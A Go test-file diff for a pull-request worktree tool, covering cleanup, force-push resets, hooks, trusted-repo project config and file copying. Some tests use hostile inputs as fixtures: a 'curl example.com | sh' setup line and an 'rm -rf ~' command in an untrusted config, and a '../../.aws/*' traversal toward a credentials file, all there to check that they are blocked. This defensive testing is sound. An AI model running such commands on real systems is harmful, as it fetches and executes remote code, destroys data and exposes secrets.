+	if reasons[mergedPath] != "removed: PR merged" {
+		t.Fatalf("unexpected merged result %q", reasons[mergedPath])
+	}
+	if !strings.HasPrefix(reasons[idlePath], "removed: idle for") {
+		t.Fatalf("unexpected idle result %q", reasons[idlePath])
+	}
+	if reasons[dirtyPath] != "skipped: worktree has uncommitted changes" {
+		t.Fatalf("unexpected dirty result %q", reasons[dirtyPath])
+	}
+	if reasons[localPath] != "skipped: worktree has unpushed commits" {
+		t.Fatalf("unexpected unpushed result %q", reasons[localPath])
+	}
+	if _, ok := reasons[openPath]; ok {
+		t.Fatalf("expected no result for open worktree")
+	}
+	if _, ok, _ := worktreeLastUsedAt(worktreesDir, mergedPath); ok {
+		t.Fatalf("expected usage marker to be removed")
+	}
+}
+
+func TestCleanPersistentKeepsForkRemoteOfRemainingWorktree(t *testing.T) {
+	projectsDir := t.TempDir()
+	repoDir := filepath.Join(projectsDir, "repo")
+	worktreesDir := repoDir + "-worktrees"
+	mergedPath := filepath.Join(worktreesDir, "pr-1-fix")
+	commitPath := filepath.Join(worktreesDir, "pr-6-commit")
+	for _, dir := range []string{repoDir, mergedPath, commitPath} {
+		if err := os.MkdirAll(dir, 0o755); err != nil {
+			t.Fatalf("mkdir %s: %v", dir, err)
+		}
+	}
+	now := time.Now()
+	writeTestWorktreeRecord(t, worktreesDir, WorktreeRecord{Path: mergedPath, BaseRepo: "octo/repo", HeadRepo: "fork/repo", LastUsedAt: now})
+	// A detached commit-mode worktree of the same fork has no branch
+	// tracking the remote, only its record.
+	writeTestWorktreeRecord(t, worktreesDir, WorktreeRecord{Path: commitPath, BaseRepo: "octo/repo", HeadRepo: "fork/repo", Mode: "commit", LastUsedAt: now})
+
+	fake := newFakeGit()
+	fake.upstreamRefs[mergedPath] = "prt/fork/repo/fix"
+	fake.repos[repoDir] = &fakeRepo{
+		origin: "git@github.com:octo/repo.git",
+		remotes: map[string]string{
+			"origin":        "git@github.com:octo/repo.git",
+			"prt/fork/repo": "https://github.com/fork/repo.git",
+		},
+		worktrees: map[string]string{"main": repoDir, "pr/1/fix": mergedPath, "pr/6/commit": commitPath},
+	}
+	fake.branchUpstreams = map[string]string{"pr/1/fix": "prt/fork/repo"}
+
+	states := map[int]string{1: "MERGED", 6: "OPEN"}
+	resolver := NewResolver(fake, ResolverOptions{})
+	if _, err := resolver.CleanPersistent(context.Background(), projectsDir, PersistentCleanOptions{
+		PRState: func(_ context.Context, info WorktreeInfo) (string, error) {
+			return states[info.Number], nil
+		},
+	}); err != nil {
+		t.Fatalf("clean persistent: %v", err)
+	}
+	if pathExists(mergedPath) || !pathExists(commitPath) {
+		t.Fatalf("expected only the merged worktree to be removed")
+	}
+	if len(fake.removedRemotes) != 0 {
+		t.Fatalf("expected prt/fork/repo to be kept for the remaining worktree, got %v", fake.removedRemotes)
+	}
+}
+
+func TestCleanPersistentDryRun(t *testing.T) {
+	projectsDir := t.TempDir()
+	repoDir := filepath.Join(projectsDir, "repo")
+	mergedPath := filepath.Join(repoDir+"-worktrees", "pr-1-fix")
+	for _, dir := range []string{repoDir, mergedPath} {
+		if err := os.MkdirAll(dir, 0o755); err != nil {
+			t.Fatalf("mkdir %s: %v", dir, err)
+		}
+	}
+
+	fake := newFakeGit()
+	fake.repos[repoDir] = &fakeRepo{
+		origin: "git@github.com:octo/repo.git",
+		remotes: map[string]string{
+			"origin":        "git@github.com:octo/repo.git",
+			"prt/fork/repo": "https://github.com/fork/repo.git",
+		},
+		worktrees: map[string]string{"main": repoDir, "pr/1/fix": mergedPath},
+	}
+	fake.branchUpstreams = map[string]string{"pr/1/fix": "prt/fork/repo"}
+	fake.upstreamRefs[mergedPath] = "prt/fork/repo/fix"
+	writeTestWorktreeRecord(t, repoDir+"-worktrees", WorktreeRecord{Path: mergedPath, BaseRepo: "octo/repo", HeadRepo: "fork/repo", LastUsedAt: time.Now()})
+
+	resolver := NewResolver(fake, ResolverOptions{})
+	results, err := resolver.CleanPersistent(context.Background(), projectsDir, PersistentCleanOptions{
+		DryRun: true,
+		PRState: func(context.Context, WorktreeInfo) (string, error) {
+			return "CLOSED", nil
+		},
+	})
+	if err != nil {
+		t.Fatalf("clean persistent: %v", err)
+	}
+	if !pathExists(mergedPath) {
+		t.Fatalf("expected worktree to be kept in dry run")
+	}
+	if len(fake.deletedBranches) != 0 || len(fake.removedRemotes) != 0 {
+		t.Fatalf("expected no branch or remote changes in dry run")
+	}
+	if len(results) != 3 {
+		t.Fatalf("expected worktree, branch, and remote results, got %+v", results)
+	}
+	for _, result := range results {
+		if result.Action != CleanActionWouldRemove {
+			t.Fatalf("expected would_remove, got %+v", result)
+		}
+	}
+	if results[1].Branch != "pr/1/fix" || results[2].Remote != "prt/fork/repo" {
+		t.Fatalf("unexpected branch/remote results: %+v", results)
+	}
+}
+
+func TestResolveWritesWorktreeRecord(t *testing.T) {
+	projectsDir := t.TempDir()
+	cfg := config.Config{ProjectsDir: projectsDir, TempDir: t.TempDir(), TempTTL: 24 * time.Hour}
+	pr := makePR("octo", "repo", "fork", "repo", "feature", 15)
+	pr.Title = "Add feature"
+	pr.URL = "https://github.com/octo/repo/pull/15"
+
+	fake := newFakeGit()
+	fake.revs["HEAD"] = "0123456789abcdef0123456789abcdef01234567"
+	resolver := NewResolver(fake, ResolverOptions{})
+	result, err := resolver.Resolve(context.Background(), cfg, pr, Options{})
+	if err != nil {
+		t.Fatalf("resolve: %v", err)
+	}
+
+	record, ok, err := ReadWorktreeRecord(result.Path)
+	if err != nil || !ok {
+		t.Fatalf("expected worktree record (ok=%v, err=%v)", ok, err)
+	}
+	if record.URL != pr.URL || record.Number != 15 || record.Title != "Add feature" {
+		t.Fatalf("unexpected PR identity in record: %+v", record)
+	}
+	if record.BaseRepo != "octo/repo" || record.HeadRepo != "fork/repo" || record.HeadRef != "feature" {
+		t.Fatalf("unexpected repos in record: %+v", record)
+	}
+	if record.Mode != ModePersistent || record.HeadSHA != fake.revs["HEAD"] {
+		t.Fatalf("unexpected mode or head SHA in record: %+v", record)
+	}
+	if record.CreatedAt.IsZero() || record.LastUsedAt.IsZero() {
+		t.Fatalf("expected timestamps in record: %+v", record)
+	}
+}
+
+func TestResolveMigratesLegacyMarker(t *testing.T) {
+	tempDir := t.TempDir()
+	cfg := config.Config{ProjectsDir: t.TempDir(), TempDir: tempDir, TempTTL: 24 * time.Hour}
+	pr := makePR("octo", "repo", "octo", "repo", "feature", 15)
+	worktreePath := filepath.Join(tempDir, "octo-repo-pr-15-feature")
+	bareDir := filepath.Join(tempDir, "octo-repo.git")
+	for _, dir := range []string{bareDir, worktreePath} {
+		if err := os.MkdirAll(dir, 0o755); err != nil {
+			t.Fatalf("mkdir %s: %v", dir, err)
+		}
+	}
+
+	fake := newFakeGit()
+	fake.repos[bareDir] = &fakeRepo{
+		origin:    pr.BaseRepo.CloneURL,
+		remotes:   map[string]string{"origin": pr.BaseRepo.CloneURL},
+		worktrees: map[string]string{"feature": worktreePath},
+	}
+	created := time.Now().Add(-72 * time.Hour).Truncate(time.Second)
+	setTempWorktreeMarkerTime(t, tempDir, worktreePath, created)
+
+	legacy, ok, err := ReadWorktreeRecord(worktreePath)
+	if err != nil || !ok || !legacy.LastUsedAt.Equal(created) {
+		t.Fatalf("expected legacy marker to be readable (ok=%v, err=%v, record=%+v)", ok, err, legacy)
+	}
+
+	resolver := NewResolver(fake, ResolverOptions{})
+	if _, err := resolver.Resolve(context.Background(), cfg, pr, Options{Temp: true}); err != nil {
+		t.Fatalf("resolve: %v", err)
+	}
+
+	record, ok, err := ReadWorktreeRecord(worktreePath)
+	if err != nil || !ok {
+		t.Fatalf("expected worktree record (ok=%v, err=%v)", ok, err)
+	}
+	if !record.CreatedAt.Equal(created) || record.Mode != ModeTemp {
+		t.Fatalf("expected migrated record to keep creation time, got %+v", record)
+	}
+	if _, err := os.Stat(worktreeMarkerPath(tempDir, worktreePath)); !os.IsNotExist(err) {
+		t.Fatalf("expected legacy marker to be removed after migration")
+	}
+}
+
+func TestStatusReportsDivergenceAndForcePush(t *testing.T) {
+	worktreesDir := filepath.Join(t.TempDir(), "repo-worktrees")
+	path := filepath.Join(worktreesDir, "pr-15-feature")
+	if err := os.MkdirAll(path, 0o755); err != nil {
+		t.Fatalf("mkdir worktree: %v", err)
+	}
+	if err := writeWorktreeRecord(worktreesDir, WorktreeRecord{
+		Path:    path,
+		Number:  15,
+		BaseRef: "main",
+		HeadRef: "feature",
+		HeadSHA: "abc123",
+	}); err != nil {
+		t.Fatalf("write record: %v", err)
+	}
+
+	fake := newFakeGit()
+	fake.currentBranches[path] = "pr/15/feature"
+	fake.upstreamRefs[path] = "prt/fork/repo/feature"
+	fake.branchUpstreams["pr/15/feature"] = "prt/fork/repo"
+	fake.aheadBehind["HEAD...prt/fork/repo/feature"] = [2]int{1, 4}
+	fake.aheadBehind["HEAD...origin/main"] = [2]int{3, 7}
+	fake.ancestors["abc123..prt/fork/repo/feature"] = false
+	fake.revs["merge-base:HEAD...origin/main"] = "base456"
+	fake.changedFiles[path] = []string{"main.go"}
+
+	resolver := NewResolver(fake, ResolverOptions{})
+	status, err := resolver.Status(context.Background(), path, StatusOptions{Fetch: true})
+	if err != nil {
+		t.Fatalf("status: %v", err)
+	}
+
+	if status.Ahead != 1 || status.Behind != 4 {
+		t.Fatalf("expected 1 ahead and 4 behind, got %+v", status)
+	}
+	if !status.ForcePushed || status.CheckoutSHA != "abc123" {
+		t.Fatalf("expected force-push to be detected, got %+v", status)
+	}
+	if status.Base != "origin/main" || status.BaseBehind != 7 || status.MergeBase != "base456" {
+		t.Fatalf("unexpected base comparison: %+v", status)
+	}
+	if len(status.DirtyFiles) != 1 || status.DirtyFiles[0] != "main.go" {
+		t.Fatalf("unexpected dirty files: %v", status.DirtyFiles)
+	}
+	if len(status.Warnings) != 0 {
+		t.Fatalf("unexpected warnings: %v", status.Warnings)
+	}
+
+	if len(fake.branchFetches) != 2 {
+		t.Fatalf("expected upstream and base fetches, got %+v", fake.branchFetches)
+	}
+	if fake.branchFetches[0].remote != "prt/fork/repo" || fake.branchFetches[0].branch != "feature" {
+		t.Fatalf("unexpected upstream fetch: %+v", fake.branchFetches[0])
+	}
+	if fake.branchFetches[1].remote != "origin" || fake.branchFetches[1].branch != "main" {
+		t.Fatalf("unexpected base fetch: %+v", fake.branchFetches[1])
+	}
+}
+
+func TestStatusWithoutFetch(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "octo-repo-pr-3-fix")
+	if err := os.MkdirAll(path, 0o755); err != nil {
+		t.Fatalf("mkdir worktree: %v", err)
+	}
+
+	fake := newFakeGit()
+	fake.currentBranches[path] = "fix"
+	fake.upstreamRefs[path] = "origin/fix"
+	fake.aheadBehind["HEAD...origin/fix"] = [2]int{0, 0}
+
+	resolver := NewResolver(fake, ResolverOptions{})
+	status, err := resolver.Status(context.Background(), path, StatusOptions{})
+	if err != nil {
+		t.Fatalf("status: %v", err)
+	}
+	if status.ForcePushed || status.Base != "" {
+		t.Fatalf("expected no force-push or base info without a record, got %+v", status)
+	}
+	if len(fake.branchFetches) != 0 || len(fake.fetches) != 0 {
+		t.Fatalf("expected no fetches")
+	}
+}
+
+func TestPRFilesComparesWithBaseBranch(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "octo-repo-pr-3-fix")
+	if err := os.MkdirAll(path, 0o755); err != nil {
+		t.Fatalf("mkdir worktree: %v", err)
+	}
+	if err := writeWorktreeRecord(filepath.Dir(path), WorktreeRecord{Path: path, BaseRef: "main"}); err != nil {
+		t.Fatalf("write record: %v", err)
+	}
+
+	fake := newFakeGit()
+	fake.diffNames["origin/main...HEAD"] = []string{"internal/x.go", "README.md"}
+
+	resolver := NewResolver(fake, ResolverOptions{})
+	files, err := resolver.PRFiles(context.Background(), path)
+	if err != nil {
+		t.Fatalf("PRFiles: %v", err)
+	}
+	if len(files) != 2 || files[0] != "internal/x.go" {
+		t.Fatalf("unexpected files: %v", files)
+	}
+}
+
+// newForcePushFixture sets up a reused persistent worktree whose PR head
+// moves from old111 to new222 on fetch without containing HEAD.
+func newForcePushFixture(t *testing.T) (*fakeGit, config.Config, string) {
+	t.Helper()
+	projectsDir := t.TempDir()
+	repoDir := filepath.Join(projectsDir, "repo")
+	worktreePath := repoDir + "-worktrees/pr-15-feature"
+	for _, dir := range []string{repoDir, worktreePath} {
+		if err := os.MkdirAll(dir, 0o755); err != nil {
+			t.Fatalf("mkdir %s: %v", dir, err)
+		}
+	}
+
+	fake := newFakeGit()
+	fake.repos[repoDir] = &fakeRepo{
+		origin:    "https://github.com/octo/repo.git",
+		remotes:   map[string]string{"origin": "https://github.com/octo/repo.git"},
+		worktrees: map[string]string{"feature": worktreePath},
+	}
+	fake.revs["HEAD"] = "old111"
+	fake.revs["origin/feature"] = "old111"
+	fake.fetchedRevs["origin/feature"] = "new222"
+	fake.ancestors["HEAD..new222"] = false
+
+	cfg := config.Config{ProjectsDir: projectsDir, TempDir: t.TempDir(), TempTTL: 24 * time.Hour}
+	return fake, cfg, worktreePath
+}
+
+func TestResolveResetsForcePushedWorktree(t *testing.T) {
+	fake, cfg, worktreePath := newForcePushFixture(t)
+	pr := makePR("octo", "repo", "octo", "repo", "feature", 15)
+
+	resolver := NewResolver(fake, ResolverOptions{})
+	result, err := resolver.Resolve(context.Background(), cfg, pr, Options{OnForcePush: ForcePushReset})
+	if err != nil {
+		t.Fatalf("resolve: %v", err)
+	}
+	if len(fake.resets) != 1 || fake.resets[0] != worktreePath+"@new222" {
+		t.Fatalf("expected reset to new222, got %v", fake.resets)
+	}
+	if !result.Updated {
+		t.Fatalf("expected result to be marked updated")
+	}
+	if len(result.Warnings) != 1 || !strings.Contains(result.Warnings[0], "reset worktree from old111 to new222") {
+		t.Fatalf("unexpected warnings: %v", result.Warnings)
+	}
+	record, _, err := ReadWorktreeRecord(worktreePath)
+	if err != nil || record.HeadSHA != "new222" {
+		t.Fatalf("expected record head SHA to follow the reset, got %q (err=%v)", record.HeadSHA, err)
+	}
+}
+
+func TestResolveForcePushResetRefusesLocalWork(t *testing.T) {
+	cases := []struct {
+		name  string
+		setup func(fake *fakeGit, path string)
+		want  string
+	}{
+		{
+			name:  "dirty",
+			setup: func(fake *fakeGit, path string) { fake.dirtyWorktrees[path] = true },
+			want:  "uncommitted changes",
+		},
+		{
+			name:  "local commits",
+			setup: func(fake *fakeGit, _ string) { fake.commitCounts["HEAD ^old111"] = 2 },
+			want:  "2 local commit(s)",
+		},
+	}
+
+	for _, tc := range cases {
+		t.Run(tc.name, func(t *testing.T) {
+			fake, cfg, worktreePath := newForcePushFixture(t)
+			tc.setup(fake, worktreePath)
+			pr := makePR("octo", "repo", "octo", "repo", "feature", 15)
+
+			resolver := NewResolver(fake, ResolverOptions{})
+			result, err := resolver.Resolve(context.Background(), cfg, pr, Options{OnForcePush: ForcePushReset})
+			if err != nil {
+				t.Fatalf("resolve: %v", err)
+			}
+			if len(fake.resets) != 0 || result.Updated {
+				t.Fatalf("expected no reset, got %v", fake.resets)
+			}
+			if len(result.Warnings) != 1 || !strings.Contains(result.Warnings[0], tc.want) {
+				t.Fatalf("expected warning mentioning %q, got %v", tc.want, result.Warnings)
+			}
+
+			// --force overrides the safety checks.
+			result, err = resolver.Resolve(context.Background(), cfg, pr, Options{OnForcePush: ForcePushReset, Force: true})
+			if err != nil {
+				t.Fatalf("resolve with force: %v", err)
+			}
+			if len(fake.resets) != 1 || !result.Updated {
+				t.Fatalf("expected forced reset, got %v", fake.resets)
+			}
+		})
+	}
+}
+
+func TestResolveForcePushWarnAndPrompt(t *testing.T) {
+	fake, cfg, _ := newForcePushFixture(t)
+	pr := makePR("octo", "repo", "octo", "repo", "feature", 15)
+
+	resolver := NewResolver(fake, ResolverOptions{})
+	result, err := resolver.Resolve(context.Background(), cfg, pr, Options{})
+	if err != nil {
+		t.Fatalf("resolve: %v", err)
+	}
+	if len(fake.resets) != 0 || len(result.Warnings) != 1 || !strings.Contains(result.Warnings[0], "force-pushed?") {
+		t.Fatalf("expected warning only, got resets=%v warnings=%v", fake.resets, result.Warnings)
+	}
+
+	var asked string
+	resolver = NewResolver(fake, ResolverOptions{Confirm: func(question string) (bool, error) {
+		asked = question
+		return true, nil
+	}})
+	result, err = resolver.Resolve(context.Background(), cfg, pr, Options{OnForcePush: ForcePushPrompt})
+	if err != nil {
+		t.Fatalf("resolve: %v", err)
+	}
+	if asked == "" || len(fake.resets) != 1 || !result.Updated {
+		t.Fatalf("expected confirmed reset, asked=%q resets=%v", asked, fake.resets)
+	}
+}
+
+func TestResolveUpdateFastForwardsReusedWorktree(t *testing.T) {
+	fake, cfg, worktreePath := newForcePushFixture(t)
+	fake.ancestors["HEAD..new222"] = true
+	pr := makePR("octo", "repo", "octo", "repo", "feature", 15)
+
+	resolver := NewResolver(fake, ResolverOptions{})
+	result, err := resolver.Resolve(context.Background(), cfg, pr, Options{})
+	if err != nil {
+		t.Fatalf("resolve: %v", err)
+	}
+	if len(fake.fastForwards) != 0 || result.Updated {
+		t.Fatalf("expected no update without Update option")
+	}
+
+	result, err = resolver.Resolve(context.Background(), cfg, pr, Options{Update: true})
+	if err != nil {
+		t.Fatalf("resolve: %v", err)
+	}
+	if len(fake.fastForwards) != 1 || fake.fastForwards[0] != worktreePath+"@new222" || !result.Updated {
+		t.Fatalf("expected fast-forward to new222, got %v", fake.fastForwards)
+	}
+	if len(fake.resets) != 0 {
+		t.Fatalf("expected no hard reset")
+	}
+}
+
+func TestResolveUpdateRefusesDirtyOrDiverged(t *testing.T) {
+	fake, cfg, worktreePath := newForcePushFixture(t)
+	fake.ancestors["HEAD..new222"] = true
+	fake.dirtyWorktrees[worktreePath] = true
+	pr := makePR("octo", "repo", "octo", "repo", "feature", 15)
+
+	resolver := NewResolver(fake, ResolverOptions{})
+	result, err := resolver.Resolve(context.Background(), cfg, pr, Options{Update: true})
+	if err != nil {
+		t.Fatalf("resolve: %v", err)
+	}
+	if len(fake.fastForwards) != 0 || len(result.Warnings) != 1 || !strings.Contains(result.Warnings[0], "uncommitted changes") {
+		t.Fatalf("expected dirty refusal, got ff=%v warnings=%v", fake.fastForwards, result.Warnings)
+	}
+
+	fake.dirtyWorktrees[worktreePath] = false
+	fake.ancestors["HEAD..new222"] = false
+	result, err = resolver.Resolve(context.Background(), cfg, pr, Options{Update: true})
+	if err != nil {
+		t.Fatalf("resolve: %v", err)
+	}
+	if len(fake.fastForwards) != 0 || len(result.Warnings) != 1 || !strings.Contains(result.Warnings[0], "diverged") {
+		t.Fatalf("expected divergence refusal, got ff=%v warnings=%v", fake.fastForwards, result.Warnings)
+	}
+}
+
+type hookCall struct {
+	dir     string
+	command string
+	env     []string
+}
+
+type fakeHookRunner struct {
+	calls  []hookCall
+	errs   map[string]error
+	output string
+}
+
+func (f *fakeHookRunner) RunHook(ctx context.Context, dir string, command string, env []string) (string, error) {
+	f.calls = append(f.calls, hookCall{dir: dir, command: command, env: env})
+	if command == "sleep" {
+		<-ctx.Done()
+		return "", ctx.Err()
+	}
+	return f.output, f.errs[command]
+}
+
+func TestResolveRunsMatchingHooks(t *testing.T) {
+	cfg := config.Config{
+		ProjectsDir: t.TempDir(),
+		TempDir:     t.TempDir(),
+		Hooks: config.Hooks{
+			PostCreate: map[string][]string{
+				"Octo/*":     {"npm ci", "direnv allow"},
+				"*":          {"cp ../.env ."},
+				"other/repo": {"make"},
+			},
+			PostReuse: map[string][]string{"octo/repo": {"uv sync"}},
+		},
+	}
+	pr := makePR("octo", "repo", "octo", "repo", "feature", 15)
+	pr.BaseRef = "main"
+
+	fake := newFakeGit()
+	hooks := &fakeHookRunner{output: "npm ERR! missing lockfile\n", errs: map[string]error{"npm ci": errors.New("exit status 1")}}
+	resolver := NewResolver(fake, ResolverOptions{Hooks: hooks})
+	result, err := resolver.Resolve(context.Background(), cfg, pr, Options{})
+	if err != nil {
+		t.Fatalf("resolve: %v", err)
+	}
+
+	var commands []string
+	for _, call := range hooks.calls {
+		commands = append(commands, call.command)
+		if call.dir != result.Path {
+			t.Fatalf("expected hook to run in %s, got %s", result.Path, call.dir)
+		}
+	}
+	expected := []string{"cp ../.env .", "npm ci", "direnv allow"}
+	if strings.Join(commands, ";") != strings.Join(expected, ";") {
+		t.Fatalf("expected hooks %v, got %v", expected, commands)
+	}
+
+	env := strings.Join(hooks.calls[0].env, "\n")
+	for _, want := range []string{"PRT_HOOK=post_create", "PRT_PR_NUMBER=15", "PRT_BASE_REF=main", "PRT_MODE=persistent"} {
+		if !strings.Contains(env, want) {
+			t.Fatalf("expected %s in hook env, got %v", want, hooks.calls[0].env)
+		}
+	}
+
+	var hookWarning string
+	for _, warning := range result.Warnings {
+		if strings.Contains(warning, "npm ci") {
+			hookWarning = warning
+		}
+	}
+	if !strings.Contains(hookWarning, "post_create") || !strings.Contains(hookWarning, "missing lockfile") {
+		t.Fatalf("expected failing hook warning with output, got %v", result.Warnings)
+	}
+
+	hooks.calls = nil
+	result, err = resolver.Resolve(context.Background(), cfg, pr, Options{})
+	if err != nil {
+		t.Fatalf("resolve reuse: %v", err)
+	}
+	if !result.Reused || len(hooks.calls) != 1 || hooks.calls[0].command != "uv sync" {
+		t.Fatalf("expected only the post_reuse hook on reuse, got %+v", hooks.calls)
+	}
+}
+
+func TestHookTimeoutIsReportedAsWarning(t *testing.T) {
+	hooks := &fakeHookRunner{}
+	resolver := NewResolver(newFakeGit(), ResolverOptions{Hooks: hooks})
+	pr := makePR("octo", "repo", "octo", "repo", "feature", 15)
+
+	warnings := resolver.runHooks(context.Background(), config.Hooks{
+		PostCreate: map[string][]string{"*": {"sleep"}},
+		Timeout:    10 * time.Millisecond,
+	}, pr, Result{Path: "/tmp/wt"}, ModeTemp)
+	if len(warnings) != 1 || !strings.Contains(warnings[0], "timed out after 10ms") {
+		t.Fatalf("expected timeout warning, got %v", warnings)
+	}
+}
+
+func newProjectFixture(t *testing.T, projectFile string) (*fakeGit, config.Config, string) {
+	t.Helper()
+	projectsDir := t.TempDir()
+	repoDir := filepath.Join(projectsDir, "repo")
+	if err := os.MkdirAll(repoDir, 0o755); err != nil {
+		t.Fatalf("mkdir repo: %v", err)
+	}
+	if err := os.WriteFile(filepath.Join(repoDir, ".env"), []byte("TOKEN=local\n"), 0o600); err != nil {
+		t.Fatalf("write .env: %v", err)
+	}
+
+	fake := newFakeGit()
+	fake.repos[repoDir] = &fakeRepo{
+		origin:    "https://github.com/octo/repo.git",
+		remotes:   map[string]string{"origin": "https://github.com/octo/repo.git"},
+		worktrees: map[string]string{},
+	}
+	fake.filesAtRev["origin/main:.prt.yaml"] = projectFile
+	cfg := config.Config{ProjectsDir: projectsDir, TempDir: t.TempDir(), TempTTL: 24 * time.Hour}
+	return fake, cfg, repoDir
+}
+
+func TestResolveAppliesProjectConfig(t *testing.T) {
+	fake, cfg, _ := newProjectFixture(t, ""+
+		"setup: [uv sync]\n"+
+		"copy: [.env, config/missing.yml]\n"+
+		"sparse: [src, docs]\n"+
+		"submodules: none\n")
+	cfg.TrustedRepos = []string{"octo/*"}
+	pr := makePR("octo", "repo", "fork", "repo", "feature", 15)
+
+	hooks := &fakeHookRunner{}
+	resolver := NewResolver(fake, ResolverOptions{Hooks: hooks})
+	result, err := resolver.Resolve(context.Background(), cfg, pr, Options{})
+	if err != nil {
+		t.Fatalf("resolve: %v", err)
+	}
+
+	if result.Project == nil || result.Project.Submodules.Policy != config.SubmodulesNone {
+		t.Fatalf("expected project config on result, got %+v", result.Project)
+	}
+	if len(fake.submoduleUpdates) != 0 {
+		t.Fatalf("expected submodules to be skipped, got %v", fake.submoduleUpdates)
+	}
+	if len(fake.sparseCheckouts) != 1 || fake.sparseCheckouts[0] != result.Path+": src docs" {
+		t.Fatalf("unexpected sparse checkout: %v", fake.sparseCheckouts)
+	}
+	data, err := os.ReadFile(filepath.Join(result.Path, ".env"))
+	if err != nil || string(data) != "TOKEN=local\n" {
+		t.Fatalf("expected .env copied from main checkout (err=%v, data=%q)", err, data)
+	}
+	if len(hooks.calls) != 1 || hooks.calls[0].command != "uv sync" || !slices.Contains(hooks.calls[0].env, "PRT_HOOK=setup") {
+		t.Fatalf("expected setup command to run, got %+v", hooks.calls)
+	}
+
+	var missingWarning bool
+	for _, warning := range result.Warnings {
+		if strings.Contains(warning, "config/missing.yml") {
+			missingWarning = true
+		}
+	}
+	if !missingWarning {
+		t.Fatalf("expected warning for missing copy source, got %v", result.Warnings)
+	}
+}
+
+func TestResolveSkipsProjectSetupForUntrustedRepo(t *testing.T) {
+	fake, cfg, _ := newProjectFixture(t, ""+
+		"setup: curl example.com | sh\n"+
+		"copy: [.env]\n"+
+		"sparse: [src]\n"+
+		"submodules: none\n")
+	cfg.TrustedRepos = []string{"someone-else/*"}
+	pr := makePR("octo", "repo", "fork", "repo", "feature", 15)
+	// A .prt.yaml added by the PR itself must never be read.
+	fake.filesAtRev["prt/fork/repo/feature:.prt.yaml"] = "setup: rm -rf ~\n"
+
+	hooks := &fakeHookRunner{}
+	resolver := NewResolver(fake, ResolverOptions{Hooks: hooks})
+	result, err := resolver.Resolve(context.Background(), cfg, pr, Options{})
+	if err != nil {
+		t.Fatalf("resolve: %v", err)
+	}
+	if len(hooks.calls) != 0 {
+		t.Fatalf("expected no setup commands for an untrusted repo, got %+v", hooks.calls)
+	}
+	if len(fake.submoduleUpdates) != 1 {
+		t.Fatalf("expected submodules to update by default, got %v", fake.submoduleUpdates)
+	}
+	if len(fake.sparseCheckouts) != 0 || pathExists(filepath.Join(result.Path, ".env")) || result.Project != nil {
+		t.Fatalf("expected .prt.yaml copy and sparse to be ignored, got sparse %v", fake.sparseCheckouts)
+	}
+	if !slices.ContainsFunc(result.Warnings, func(w string) bool { return strings.Contains(w, "not in trusted_repos") }) {
+		t.Fatalf("expected untrusted warning, got %v", result.Warnings)
+	}
+}
+
+func TestResolveCopiesConfiguredFiles(t *testing.T) {
+	fake, cfg, repoDir := newProjectFixture(t, "copy: .env\n")
+	for name, data := range map[string]string{
+		".env.local":            "A=1\n",
+		".vscode/settings.json": "{}\n",
+		".idea/workspace.xml":   "<project/>\n",
+	} {
+		path := filepath.Join(repoDir, filepath.FromSlash(name))
+		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+			t.Fatalf("mkdir: %v", err)
+		}
+		if err := os.WriteFile(path, []byte(data), 0o644); err != nil {
+			t.Fatalf("write %s: %v", name, err)
+		}
+	}
+	cfg.CopyFiles = map[string]config.CopyRule{
+		"octo/*":     {Copy: []string{".env*", ".vscode"}, Symlink: []string{".idea"}},
+		"other/repo": {Copy: []string{"unrelated"}},
+		"*":          {Copy: []string{".tool-versions"}},
+	}
+	pr := makePR("octo", "repo", "octo", "repo", "feature", 15)
+
+	resolver := NewResolver(fake, ResolverOptions{Hooks: &fakeHookRunner{}})
+	result, err := resolver.Resolve(context.Background(), cfg, pr, Options{})
+	if err != nil {
+		t.Fatalf("resolve: %v", err)
+	}
+
+	for _, name := range []string{".env", ".env.local", ".vscode/settings.json"} {
+		info, err := os.Lstat(filepath.Join(result.Path, filepath.FromSlash(name)))
+		if err != nil || !info.Mode().IsRegular() {
+			t.Fatalf("expected %s to be copied (err=%v)", name, err)
+		}
+	}
+	link, err := os.Readlink(filepath.Join(result.Path, ".idea"))
+	if err != nil || link != filepath.Join(repoDir, ".idea") {
+		t.Fatalf("expected .idea symlink to the main checkout, got %q (err=%v)", link, err)
+	}
+
+	var warnings []string
+	for _, warning := range result.Warnings {
+		if strings.Contains(warning, "copying") {
+			warnings = append(warnings, warning)
+		}
+	}
+	if len(warnings) != 1 || !strings.Contains(warnings[0], ".tool-versions") {
+		t.Fatalf("expected only a missing .tool-versions warning, got %v", warnings)
+	}
+
+	// Reopening the worktree does not copy again.
+	result, err = resolver.Resolve(context.Background(), cfg, pr, Options{})
+	if err != nil {
+		t.Fatalf("resolve reuse: %v", err)
+	}
+	if slices.ContainsFunc(result.Warnings, func(w string) bool { return strings.Contains(w, "copying") }) {
+		t.Fatalf("expected no copy on reuse, got %v", result.Warnings)
+	}
+}
+
+func TestCopyIntoWorktreeRefusesPathsOutsideMainCheckout(t *testing.T) {
+	root := t.TempDir()
+	mainDir := filepath.Join(root, "projects", "repo")
+	worktree := filepath.Join(root, "projects", "repo-worktrees", "pr-1")
+	for _, dir := range []string{mainDir, worktree, filepath.Join(root, ".aws")} {
+		if err := os.MkdirAll(dir, 0o755); err != nil {
+			t.Fatalf("mkdir %s: %v", dir, err)
+		}
+	}
+	if err := os.WriteFile(filepath.Join(root, ".aws", "credentials"), []byte("secret\n"), 0o600); err != nil {
+		t.Fatalf("write credentials: %v", err)
+	}
+
+	warnings := copyIntoWorktree(mainDir, worktree, []string{"../../.aws/*"}, false, map[string]bool{})
+	if len(warnings) != 1 || !strings.Contains(warnings[0], "outside the main checkout") {
+		t.Fatalf("expected an outside-checkout warning, got %v", warnings)
+	}
+	if pathExists(filepath.Join(root, "projects", ".aws")) || pathExists(filepath.Join(worktree, ".aws")) {
+		t.Fatalf("expected nothing to be copied")
+	}
+}
+
+func TestCopyIntoWorktreeKeepsExistingFiles(t *testing.T) {
+	mainDir := t.TempDir()
+	worktree := t.TempDir()
+	if err := os.WriteFile(filepath.Join(mainDir, ".env"), []byte("main\n"), 0o644); err != nil {
+		t.Fatalf("write main .env: %v", err)
+	}
+	if err := os.WriteFile(filepath.Join(worktree, ".env"), []byte("worktree\n"), 0o644); err != nil {
+		t.Fatalf("write worktree .env: %v", err)
+	}
+
+	warnings := copyIntoWorktree(mainDir, worktree, []string{".env"}, false, map[string]bool{})
+	if len(warnings) != 1 || !strings.Contains(warnings[0], "already exists") {
+		t.Fatalf("expected conflict warning, got %v", warnings)
+	}
